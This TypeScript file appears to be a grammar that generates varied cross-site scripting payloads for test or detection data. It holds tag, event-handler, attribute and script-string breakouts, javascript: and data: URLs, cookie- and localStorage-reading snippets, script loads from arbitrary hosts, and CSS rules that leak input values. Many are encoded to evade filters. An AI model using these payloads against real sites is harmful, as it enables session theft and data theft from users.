/** Cross-site scripting: markup, attributes, scripts and URLs, in the contexts that they break out of. */

import { type Grammar, grammar, lines } from "../lib/grammar.ts";
import { LEXICON } from "../lib/lexicon.ts";
import type { Random } from "../lib/random.ts";
import { EVENTS, SCRIPTS, TAGS } from "./xss-data.ts";
import { disguiseXss } from "./xss-disguise.ts";
import { XSS_SPECIALS } from "./xss-specials.ts";

const TORN = [
  "script",
  "form",
  "iframe",
  "img",
  "svg",
  "body",
  "object",
  "embed",
  "applet",
  "meta",
  "link",
  "base",
  "style",
  "input",
  "frameset",
  "video",
  "details",
  "marquee",
];

const RULES: Grammar = grammar({
  ...LEXICON,
  ...XSS_SPECIALS,
  start: [
    ["«breakout»«scripttag»«after»", 22],
    ["«breakout»«handler»«after»", 34],
    ["«attrbreak»«attributes»", 14],
    ["«jsbreak»", 10],
    ["«breakout»«urlcarrier»", 12],
    ["«jsurl_»", 6],
    ["«special»", 16],
    ["«rndmix»«breakout»«scripttag»", 2],
    ["«js»", 5],
    ["«dangling»", 4],
    ["«breakout»«blanks»", 6],
    ["«oddtag»", 5],
  ],
  /** Words torn apart and blanks where a parser still finds the attribute. */
  blanks: (rng) => {
    const tag = rng.pick(TORN);
    const torn = rng.chance(0.4)
      ? [...tag].join(rng.pick([" ", "\t", "\n", "/**/", "%00", "+", "\u0000"]))
      : tag;
    const gap = () => rng.pick([" ", "  ", "\t", "\n", "", "/", "%09", "%0a", "%0c"]);
    const name = rng.pick([
      "onload",
      "onerror",
      "onclick",
      "onmouseover",
      "onfocus",
      "ontoggle",
      "onbegin",
      "onsubmit",
      "style",
      "src",
      "href",
      "action",
      "onpointerenter",
      "onwheel",
    ]);
    const attribute = `${gap() || " "}${name}${gap()}=${gap()}${rng.pick(["", '"', "'", "`"])}`;
    const value = RULES(rng, rng.pick(["js", "jsurl", "argword"]));
    const parts = [
      `<${gap()}${torn}${attribute}${value}`,
      `<${torn}`,
      `<${gap()}${torn}${gap()}>`,
      `${attribute}${value}`,
      `<${torn}${attribute}`,
      `</${gap()}${torn}${gap()}>`,
    ];
    return rng.pick([parts[0], parts[0], parts[0], ...parts]) ?? "";
  },
  oddtag: lines`
    <«tag»
    <«tag»«_»«rnd»
    <«tag» «event»
    <«tag»/«event»=
    <«tag» «event» = «js»
    <«object|embed|applet|iframe|frame|frameset|base|meta|link|isindex|layer|ilayer|bgsound|xml|xss|math|svg|marquee|form|input|button|style|script|video|audio|body|html|keygen|portal|dialog|details|template|noscript|textarea|title»
    <«object|embed» «data|src|code|type|codebase|classid» = «qq»«jsurl»«qq»
    <object«_»type=«qq»text/«html|x-scriptlet»«qq»«_»data=«qq»«jsurl»
    <applet«_»code=«rnd».class«_»archive=«jsurl»
    <base«_»href=«q?»«jsurl»
    <base target=«q»«rnd»
    <meta«_»http-equiv=«qq?»«refresh|set-cookie|link|Refresh|content-security-policy»«qq?»«_»content=«qq»«small»;«_»url=«jsurl»
    <link«_»rel=«stylesheet|import|prefetch|icon»«_»href=«jsurl»
    <form«_»action=«jsurl»«| method=post»><input«_»type=submit
    <button«_»formaction=«jsurl»
    <style>@import«_»'«jsurl»';
    <style>«rnd»{«behavior|-moz-binding»:url(«jsurl»)}
    @import«_»«url(«jsurl»)|'«jsurl»'|"«jsurl»"»;
    style«_»=«_»«qq»«width|xss|color|background»:«_»«expression|expr/**/ession|EXPRESSION»(«js»)
    «width|xss|color»:expression(«js»)
    x:e/**/xpression(«js»)
    behavior«_»:«_»url(«jsurl»)
    -moz-binding:«_»url(«jsurl»#«rnd»)
    background«|-image»:«_»url(javascript:«js»)
    list-style-image:url(«qq»javascript:«js»«qq»)
    «qq»«_»«event»«_»=«_»«qq»«js»
    «q»/«event»«_»=«_»«q»«js»
    «event»«_»=«_»«js»
    «event»=«js»
    «event»%20=%20«js»
    </«title|textarea|style|script|noscript|iframe|xmp»><«tag» «event» = «js»
    formaction«_»=«_»«jsurl»
    xlink:href=«jsurl»
    srcdoc=«q»<«tag» «event»=«js»
    &lt;«tag» «event» = «js»`,
  tag: TAGS,
  event: EVENTS,
  js: SCRIPTS,
  pop: [
    "alert",
    "alert",
    "alert",
    "alert",
    "prompt",
    "confirm",
    "console.log",
    "print",
    "top.alert",
    "document.write",
    "self.confirm",
    "javascript:alert",
    "parent.alert",
    "eval",
  ],
  arg: [
    "1",
    "«int»",
    "«int»",
    "'XSS'",
    '"XSS"',
    "'«rnd»'",
    '"«rnd»"',
    "/«rnd»/",
    "/XSS/",
    "document.cookie",
    "document.domain",
    "document.location",
    "location.href",
    "origin",
    "window.origin",
    "localStorage",
    "/«rnd»/.source",
    "String.fromCharCode(«codes»)",
    "«big»",
    "'«Rnd»'",
    "navigator.userAgent",
    "«small»",
    "name",
    "«Rnd»",
    "'hacked'",
    "'«rnd» «rnd»'",
    "&quot;«rnd»&quot;",
    "\\'«rnd»\\'",
  ],
  argword: ["1", "«int»", "«rnd»", "XSS", "xss"],
  loot: [
    "document.cookie",
    "document.cookie",
    "escape(document.cookie)",
    "btoa(document.cookie)",
    "encodeURIComponent(document.cookie)",
    "localStorage.«rnd»",
    "document.domain",
    "document.body.innerHTML",
    "location",
    "JSON.stringify(localStorage)",
    "window.name",
  ],
  codes: [
    "«ccode»,«ccode»,«ccode»«ccodes*0-9»",
    "88,83,83",
    "97,108,101,114,116,40,49,41",
    "0x«hex2»,0x«hex2»",
  ],
  ccodes: [",«ccode»"],
  ccode: (rng) => String(rng.int(32, 122)),
  jsfuck: [
    "[]",
    "(![]+[])",
    "[+[]]",
    "+!+[]",
    "(!![]+[])",
    "[!+[]+!+[]]",
    "[+!+[]]",
    "+",
    "([][[]]+[])",
    "[+!+[]+[+[]]]",
    "!![]",
    "{}",
  ],
  pieces: [
    "'al'+'ert'",
    '"ale"+"rt"',
    "/alert/.source",
    "'\\x61lert'",
    '"\\141lert"',
    "8680439..toString(30)",
    "`al`+`ert`",
    "atob('YWxlcnQ=')",
    "'pro'+'mpt'",
    '"confirm"',
    "'ev'+'al'",
    "(~~Math.random()*1e8).toString(30)",
  ],
  code: [
    "'«pop»(«int»)'",
    '"«pop»(«int»)"',
    "`«pop»(«int»)`",
    "'ale'+'rt(«int»)'",
    "atob('«base64»')",
    "location.hash.slice(1)",
    "name",
    "'\\x61lert(«int»)'",
    "«pieces»",
    "String.fromCharCode(«codes»)",
    "unescape('%61%6c%65%72%74%28«int»%29')",
    "decodeURI('«pop»(«int»)')",
    "/«rnd»/.source",
  ],
  jsurl: [
    "//«host»/«rnd».js",
    "«url»",
    "http://«host»/«rnd».js",
    "https://«host»/«letter».js",
    "//«host»",
    "//«host»/«rnd»",
    "data:text/javascript,«pop»(«int»)",
    "data:,«pop»(«int»)",
    "\\\\«host»\\«rnd».js",
    "//«rnd2».«tld»",
    "http://xss.rocks/xss.js",
    "https://«rnd».xss.ht",
    "//«host»/1.js",
  ],

  /** What ends the text that the value stands in. */
  breakout: [
    ["«»", 14],
    ['">', 8],
    ["'>", 6],
    [">", 2],
    ['"/>', 1],
    ["'/>", 1],
    ["-->", 1],
    [
      "</«title|textarea|script|style|noscript|iframe|xmp|select|option|template|noembed|a|div|td|form|h1|plaintext|comment»>",
      3,
    ],

    ["'\">", 2],
    ["\"'>", 1],
    ['«int»">', 1],
    ["«rnd»\"'>", 1],
    ["</«title|textarea|script|style»«_|/|»>", 1],
    ["]]>", 1],
    ["<![CDATA[", 1],
    ["<!--", 1],
    ["*/</script>", 1],
    ["';</script>", 1],
    ['";}</script>', 1],
    ["«rnd»", 1],
    ["%22%3E", 1],
    ['&">', 0.5],
    ["`>", 0.5],
    ['\\">', 1],
    ["<«rnd»>", 0.5],
    ['=">', 0.5],
    ['}}">', 0.3],
    ["<", 0.5],
    ["¼", 0.1],
  ],
  after: [
    "«»",
    "«»",
    "«»",
    "«»",
    "//",
    "<!--",
    "-->",
    '<"',
    "<",
    "'",
    '"',
    "<«tag»>",
    "<textarea>",
    "«rnd»",
    "=",
    "<x «rnd»='",
    " /",
    "{/",
  ],

  scripttag: [
    ["<«script»>«js»</«script»>", 12],
    ["<«script»>«js»</«script»>", 8],
    ["<«script» «attrs?»src=«quoted_url»«></script>|/>|>|>«»»", 6],
    ["<«script»/«rnd»>«js»</«script»>", 1],
    ['<«script» «rnd»="«>|x»">«js»</«script»>', 1],
    ["<«script» >«js»</«script»«_|»>", 1],
    ["<«script»>«js»", 2],
    ["<«script»>«js»//", 1],
    ["<<«script»>«js»//<</«script»>", 1],
    [
      '<«script» type=«text/javascript|"text/javascript"|module|text/vbscript|"application/javascript"»>«js»</«script»>',
      2,
    ],
    ['<«script» language=«vbscript|"javascript"|jscript.encode»>«js»</«script»>', 1],
    ["<scr<script>ipt>«js»</scr</script>ipt>", 2],
    [
      "<«sc%00ript|scri\u0000pt|s\ncript|script\u0000|%00script|script%0d%0a|script%09|scr\tipt»>«js»</script>",
      1,
    ],
    ["<script>«/*|//»«nl»«js»«*/|»</script>", 1],
    ["<script>/*«rnd»*/«js»/*«rnd»*/</script>", 1],
    ["<script>var «rnd»=«int»;«js»</script>", 1],
    ["<svg><script>«js»</script></svg>", 1],
    ["<svg><script «xlink:href|href»=«quoted_url»«></script>|/>»", 1],
    ["<svg><script>«entityjs»</script>", 1],
    ["<math><«mi|mtext|annotation-xml»><script>«js»</script>", 0.5],
    ["＜script＞«js»＜/script＞", 0.5],
    ["%u003cscript%u003e«js»%u003c/script%u003e", 0.5],
    ["\\u003cscript\\u003e«js»\\u003c/script\\u003e", 0.7],
    ["\\x3cscript\\x3e«js»\\x3c/script\\x3e", 0.7],
    ["&lt;script&gt;«js»&lt;/script&gt;", 1.5],
    ["+ADw-script+AD4-«js»+ADw-/script+AD4-", 1],
    ["¼script¾«js»¼/script¾", 0.7],
    ["%3Cscript%3E«js»%3C/script%3E", 2],
    ["%253Cscript%253E«js»%253C%252Fscript%253E", 1],
    ["<script>«loot»</script>", 0.5],
    ["<script ~~~>«js»</script ~~~>", 0.3],
    ["<script«%20|/**/|+|%0a|%09»>«js»</script>", 0.5],
    ["<script x> «js» </script 1=2", 0.3],
  ],
  script: [
    ["script", 12],
    ["SCRIPT", 2],
    ["ScRiPt", 2],
    ["sCrIpT", 1],
    ["Script", 1],
    ["SCRipt", 1],
    ["scRIPT", 1],
  ],
  entityjs: [
    "&#97;lert(«int»)",
    "alert&#40;«int»)",
    "alert&lpar;«int»&rpar;",
    "&#x61;&#x6c;&#x65;&#x72;&#x74;(«int»)",
  ],
  quoted_url: ["«jsurl»", '"«jsurl»"', "'«jsurl»'", "«url»", '"«url»"', "data:«text/javascript|»,«js»"],
  attrs: ["async ", "defer ", "type=module ", "«rnd»=«rnd» ", "charset=utf-8 ", "nonce=«hex8» "],

  handler: [
    ["<«tag»«gap»«event»=«jsattr»>", 14],
    ["<«tag»«gap»«event»=«jsattr»", 2],
    ["<«tag»«gap»«event»=«jsattr»«gap»«rnd»>", 1],
    ["<«tag»«gap»«attribute»«gap»«event»=«jsattr»>", 8],
    ["<img«gap»src=«src»«gap»«onerror|onerror|onload|onmouseover|onError|ONERROR»=«jsattr»«>|/>| />»", 16],
    ["<img src «event»=«jsattr»>", 1],
    ["<svg«gap»onload«_|%09|%0c|/|»=«jsattr»«>|>|/>|//»", 9],
    ["<svg><«g|animate|set|a|image|rect|desc|animatetransform»«gap»«event»=«jsattr»«gap»«attribute»>", 3],
    ["<svg><animate «onbegin|onend|onrepeat»=«jsattr» attributeName=«x|href|y» dur=«small»s>", 2],
    [
      "<body«gap»«onload|onpageshow|onscroll|onhashchange|onresize|onfocus|onbeforeunload|onload»=«jsattr»>",
      4,
    ],
    [
      '<«input|select|textarea|keygen|button|a|audio|div»«gap»«onfocus|onfocusin|onblur»=«jsattr»«gap»autofocus«| tabindex=1| contenteditable|=""»>',
      5,
    ],
    [
      "<«video|audio»«gap»«src=«src»|»«gap»«onerror|onloadstart|oncanplay|onloadedmetadata|onplay»=«jsattr»>",
      3,
    ],
    ["<video><source «onerror|onload»=«jsattr»>", 2],
    ["<details«gap»open«gap»ontoggle=«jsattr»>", 3],
    ["<marquee«gap»«onstart|onfinish|onbounce|loop=1 width=0 onfinish»=«jsattr»>", 2],
    ["<iframe«gap»«onload|srcdoc»=«jsattr»>", 2],
    ["<a«gap»href=«hrefjs»«gap»«event»=«jsattr»>«rnd»</a>", 2],
    ["<a«gap»«event»=«jsattr»>««rnd»|click here|click|xss»</a>", 2],
    ["<x «event»=«jsattr»>«rnd»", 1],
    [
      '<«rnd»«gap»«event»=«jsattr»«gap»style=«display:block|"font-size:500px"|"position:fixed;inset:0"»>«rnd»',
      2,
    ],
    ["<«rnd» id=x tabindex=1 onfocus=«jsattr»></«rnd»>#x", 1],
    [
      '<style>@keyframes «v=rnd2»{}</style><«tag» style="animation-name:«$v»" onanimation«start|end»=«jsattr»></«tag»>',
      2,
    ],
    ["<style onload=«jsattr»>", 1],
    ["<form«gap»«onsubmit|oninput|onreset»=«jsattr»><input type=«submit|image»«>|»", 1],
    ["<object«gap»«data=«src» |»«onerror|onload»=«jsattr»>", 1],
    ["<isindex «type=image |»«src=1 |»«action|onerror|formaction»=«jsattr»>", 1],
    ["<table«gap»background=«hrefjs»>", 1],
    ["<frameset «onload|onpageshow»=«jsattr»>", 1],
    ["<input«gap»type=«image|text|hidden|search»«gap»«attribute»«gap»«event»=«jsattr»>", 2],
    ["<button«gap»popovertarget=x>«rnd»</button><«tag» popover id=x onbeforetoggle=«jsattr»>", 1],
    ['<IMG """><SCRIPT>«js»</SCRIPT>">', 1],
    [
      '<IMG SRC=«&#«code2»;|javascript:«js»|`javascript:«js»`|"jav&#x09;ascript:«js»"|"jav\tascript:«js»"|" &#14; javascript:«js»"»«>|»',
      2,
    ],
  ],
  code2: (rng) =>
    Array.from("javascript:", (c) => `&#${rng.pick(["", "0", "00000", "x"])}${c.charCodeAt(0)}`).join(
      rng.pick([";", ""]),
    ),
  gap: [
    [" ", 16],
    ["/", 5],
    ["  ", 1],
    ["\n", 1],
    ["\t", 1],
    ["%0a", 1],
    ["%09", 1],
    ["%0c", 1],
    ["/**/", 1],
    ["//", 1],
    ["\u000c", 1],
    ["/'/", 0.5],
    ["&Tab;", 0.3],
    ["+", 1],
    ["/x/", 0.5],
    ["%0d", 0.5],
    [" / ", 0.3],
    ["%20", 1],
  ],
  src: [
    "x",
    "x",
    "1",
    "a",
    "«rnd»",
    "/",
    "#",
    '""',
    "''",
    "x:x",
    "«letter»",
    '"«rnd»"',
    "'x'",
    "«url»",
    "x.jpg",
    "«int»",
    "?",
    ".",
    "*",
    "data:,",
    "//«rnd»",
    "`x`",
    "null",
  ],
  attribute: [
    "src=«src»",
    "href=«src»",
    "id=«rnd»",
    "style=«rnd»:«rnd»",
    "class=«rnd»",
    "autofocus",
    "contenteditable",
    "tabindex=«small»",
    "accesskey=«letter»",
    "width=«int»",
    "type=«rnd»",
    "value=«rnd»",
    "alt=«rnd»",
    "name=«rnd»",
    "draggable=true",
    "controls",
    "autoplay",
    "«rnd»=«rnd»",
    "src",
    "open",
    "hidden",
    "title=«rnd»",
    'a="«rnd»"',
    '"«rnd»"',
    "x='«rnd»'",
  ],
  jsattr: [
    ["«js»", 9],
    ['"«js»"', 8],
    ["'«js»'", 4],
    ["`«js»`", 1],
    ["javascript:«js»", 2],
    ['"javascript:«js»"', 1],
    [" «js»", 1],
    ["&#«x|»«hex2»;&#«x|»«hex2»;«js»", 1],
    ["«pop»&#40;«int»&#41;", 1],
    ["«pop»&lpar;«arg»&rpar;", 1],
    ['"«entityjs»"', 1],
    ["«pop»%28«int»%29", 0.5],
    ['"return «js»"', 0.5],
    ["«pop»", 0.4],
    ["'«pop»", 0.2],
  ],

  attrbreak: [
    '"',
    "'",
    '" ',
    "' ",
    '"/',
    '«rnd»" ',
    "«rnd»' ",
    '«int»" ',
    "«int»' ",
    "` ",
    "",
    "«rnd» ",
    '\\" ',
    "%22 ",
    "&quot; ",
    '"" ',
    "'\" ",
  ],
  attributes: lines`
    «event»=«jsattr»«attrend»
    «event»=«jsattr»«attrend»
    «event»=«jsattr»«gap»«attribute»«attrend»
    autofocus«gap»«onfocus|onfocusin|onblur»=«jsattr»«attrend»
    «attribute»«gap»«event»=«jsattr»«attrend»
    style=«qq»«rnd»:«expression|expre/**/ssion|e\xpression»(«js»)«qq»«attrend»
    style=animation-name:«rnd» «onanimationstart|onanimationend»=«jsattr»«attrend»
    accesskey=«letter» onclick=«jsattr»«attrend»
    type=image src=«src» onerror=«jsattr»«attrend»
    href=«hrefjs»«attrend»
    formaction=«hrefjs»«attrend»
    background=«hrefjs»«attrend»
    src=«hrefjs»«attrend»`,
  attrend: ["«»", "«»", ' «letter»="', " «letter»='", '"', "'", ">", "//", " x=", ' "', " «rnd»", "><«rnd»"],

  /** Out of a string in a script. */
  jsbreak: lines`
    «jsquote»«-|;|+|*|,|«pipe»«pipe»|&&|^|/|%|)-|);|});|]);|}|;}|)};|<|>|==|in |?|)+|}}//»«js»«-|;|+|*|,|«pipe»«pipe»|&&|^|//|;//|-(|;({|;([{|<!--|/*|»«jsquote?»
    «jsquote»-«js»-«jsquote»
    «jsquote»;«js»;//
    «jsquote»;«js»;«jsquote»
    «jsquote»«)|}|]»;«js»//
    «jsquote»};«js»;{«jsquote»
    «jsquote»});«js»;({«jsquote»
    \«jsquote»;«js»//
    \«jsquote»-«js»//
    «jsquote»««nl»|%0a|%0d%0a|%E2%80%A8»«js»//
    </script><«script»>«js»</«script»>
    </script><svg onload=«js»>
    «dollar»{«js»}
    «bt»+«js»+«bt»
    «jsquote»><«script»>«js»</«script»>
    «int»;«js»
    «int»,«js»
    «rnd»=«js»
    «rnd»(«js»)
    *«/|»*/«js»//
    //«nl»«js»
    };«js»;function «rnd»(){
    ]]};«js»//
    if(1)«js»`,
  jsquote: ["'", '"', "'", '"', "`", "\\'", '\\"', "%27", "%22", "&apos;", "&quot;", "&#39;"],
  dollar: ["$"],

  urlcarrier: lines`
    <iframe«gap»src=«hrefjs»></iframe>
    <iframe«gap»src=«hrefjs»
    <iframe src=«url»></iframe>
    <iframe srcdoc=«qq»<«script|img src=x onerror»«>|=»«js»«</script>|>»«qq»>
    <iframe srcdoc="&lt;script&gt;«js»&lt;/script&gt;">
    <a«gap»href=«hrefjs»>««rnd»|click|XSS|click me|test»«</a>|»
    <a«gap»href=«hrefjs»
    <a href="«url»">««rnd»|click|login»</a>
    <«embed|frame|image|bgsound|layer|img»«gap»«src|SRC|lowsrc|dynsrc»=«hrefjs»«>|/>»
    <embed src=«quoted_url» allowscriptaccess=always>
    <object«gap»data=«hrefjs»«></object>|>»
    <object type=«qq»text/x-scriptlet«qq» data=«quoted_url»></object>
    <«form|isindex»«gap»action=«hrefjs»«gap»method=«post|get»><«button|input type=submit»>
    <form id=«v=rnd2»></form><button form=«$v» formaction=«hrefjs»>«rnd»
    <button formaction=«hrefjs»>«rnd»
    <input type=«image|submit»«gap»«src|formaction»=«hrefjs»>
    <math«gap»«href|xlink:href»=«hrefjs»>«rnd»
    <math><mtext></form><form><mglyph><style></math><img src onerror=«js»>
    <svg><a xlink:href=«hrefjs»><text x=20 y=20>«rnd»</text></a>
    <svg><use«gap»«href|xlink:href»=«qq»data:image/svg+xml«;base64,«base64»|,<svg id='x' xmlns='http://www.w3.org/2000/svg'>»#x«qq»/>
    <svg><animate attributeName=href values=«hrefjs» /><a id=«rnd»>
    <svg><image href=«hrefjs»>
    <link«gap»rel=«stylesheet|import|preload|"stylesheet"|manifest»«gap»href=««hrefjs»|«quoted_url»»>
    <meta«gap»http-equiv=«refresh|"refresh"»«gap»content=«qq»0;«gap»url=«hrefjs_»«qq»>
    <meta http-equiv="Set-Cookie" Content="«rnd»=<script>«js»</script>">
    <meta«gap»charset=«utf-7|"x-imap4-modified-utf7"|"x-mac-farsi"|«rnd»»>
    <META HTTP-EQUIV="Link" Content="<«url»>; REL=stylesheet">
    <base«gap»href=«hrefjs»>
    <base href="«jsurl»">
    <base target=«rnd»>
    <div«gap»style=«qq»«cssjs»«qq»>
    <«tag»«gap»style=«qq»«cssjs»«qq»>
    <style>«cssjs»</style>
    <style>@import«_|»«'|"|»«hrefjs_»«'|"|»;</style>
    <STYLE type="text/«css|javascript»">«cssjs»</STYLE>
    <«table|td|body|div|ul»«gap»background=«hrefjs»>
    <applet code=«qq»«url»«qq»></applet>
    <xml id=«rnd»>«rnd»</xml>
    <?xml-stylesheet type="text/xsl" href=«hrefjs»?>
    <?xml version="1.0"?><html:html xmlns:html='http://www.w3.org/1999/xhtml'><html:script>«js»</html:script></html:html>
    <?import namespace="t" implementation="#default#time2">
    <«t|v|«rnd2»»:«vmlframe|set|rect|image|group» «src|style|attributeName|to»=«hrefjs»«>|/>»
    <video poster=«hrefjs»//>
    <form><input name=«attributes|innerHTML|parentNode|«rnd»»><«img|input» name=«cookie|domain|nodeName»>`,
  hrefjs: ["«hrefjs_»", '"«hrefjs_»"', "'«hrefjs_»'", '"«hrefjs_»"'],
  hrefjs_: [
    "«jsscheme»«js»",
    "«jsscheme»«js»",
    "«datauri»",
    "«jsscheme»//%0a«js»",
    '«jsscheme»"«rnd»"',
    "vbscript:«js»",
    "«jsscheme»/*«rnd»*/«js»",
    '«jsscheme»eval("«rnd»")',
    "«jsscheme»void(«js»)",
  ],
  jsurl_: [
    "«jsscheme»«js»",
    "«jsscheme»«js»",
    "«jsscheme»//«host»/%0a«js»",
    "«jsscheme»//%0d%0a«js»",
    "«jsscheme»/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+«js»//'>",
    "«datauri»",
    "«jsscheme»«js»//",
    'vbscript:msgbox("«rnd»")',
    "«jsscheme»window.open('«url»')",
    "view-source:«jsscheme»«js»",
    "feed:«jsscheme»«js»",
    "livescript:«js»",
    "mocha:«js»",
    "jar:«jsurl»!/",
    "file:«jsscheme»«js»",
  ],
  jsscheme: [
    ["javascript:", 14],
    ["JaVaScRiPt:", 2],
    ["javascript&colon;", 1],
    ["javascript&#58;", 1],
    ["javascript&#x3a;", 1],
    ["java\tscript:", 1],
    ["java%0ascript:", 1],
    ["java%09script:", 1],
    ["jav&#x0A;ascript:", 1],
    ["jav&#x09;ascript:", 1],
    ["&#106;avascript:", 1],
    ["\\x6A\\x61vascript:", 1],
    ["\u0001javascript:", 1],
    [" javascript:", 1],
    ["java\nscript:", 1],
    ["JAVASCRIPT:", 1],
    ["&#x6A&#x61&#x76&#x61script:", 1],
    ["jAvAsCrIpT&colon;", 1],
    ["&Tab;javascript:", 0.5],
    ["javascript%3a", 1],
    ["java&NewLine;script:", 0.5],
    ["\\j\\av\\a\\s\\cr\\i\\pt\\:", 0.5],
    ["javascripT://%250A", 0.5],
  ],
  datauri: [
    "data:text/html,<«script»>«js»</«script»>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCg«base64»",
    "data:text/html;charset=utf-«7|8|16»,<«tag» «event»=«js»>",
    "data:text/html;base64,«base64»",
    "data:image/svg+xml;base64,PHN2ZyB4bWxucz«base64»",
    "data:application/xhtml+xml,<«script»>«js»</script>",
    "data:text/html,%3Cscript%3E«js»%3C/script%3E",
    "data:text/javascript;base64,«base64»",
    "data:«,|;,»«js»",
    "data:text/xml,<?xml-stylesheet «rnd»>",
    "DATA:TEXT/HTML,<svg onload=«js»>",
  ],
  cssjs: lines`
    ««rnd»|xss|width|color|background|x»:expression(«js»)
    ««rnd»|xss|width»:«exp/**/ression|expr/*XSS*/ession|e\78pression|\65xpression|ex\pression»(«js»)
    background«-image|»:url(«hrefjs_»)
    list-style-image: url("«hrefjs_»")
    -moz-binding:url(«jsurl»#«rnd»)
    behavior:url(«jsurl»)
    @import '«jsurl»'
    @import url(«jsurl»)
    x:«bs»65«bs»78pression(«js»)
    animation-name:«rnd»;position:fixed;width:100%;height:100%
    input[name=«rnd»][value^=«letter»]{background:url(//«host»/«letter»)}
    @font-face{font-family:«rnd»;src:url(«jsurl»);unicode-range:U+«hex4»}`,
  dangling: [
    "<img src='//«host»/?",
    '"><img src="«url»?',
    "<«script»",
    "</«script»>",
    "<«tag»",
    "<«tag» «event»",
    "<«script» src",
    "<«tag» «event»=",
    "«event»=",
    "«event»=«js»",
    "<«rnd2»><«tag»/«event»=",
    "'\"><«rnd»>",
    "<«tag»«gap»src=«hrefjs»",
    '"><a href=//«host»>',
    "<!--<«script»>",
    "<«tag» style=",
    "<xss>",
    "<«h1|b|u|i|marquee|blink»>«rnd»</«h1|b|u|i|marquee»>",
    "'';!--\"<«Rnd»>=&{()}",
    '"><«rnd»',
    "<«rnd»<\"'>«Rnd»",
    "<«Rnd»>«int»</«Rnd»>",
    "\"'><«rnd» «rnd»=«int»>",
    "<textarea/«event»=",
    "<plaintext>",
  ],
});

/** A cross-site scripting payload for some context, most often plain, sometimes disguised. */
export function xss(rng: Random): string {
  return disguiseXss(rng, RULES(rng));
}
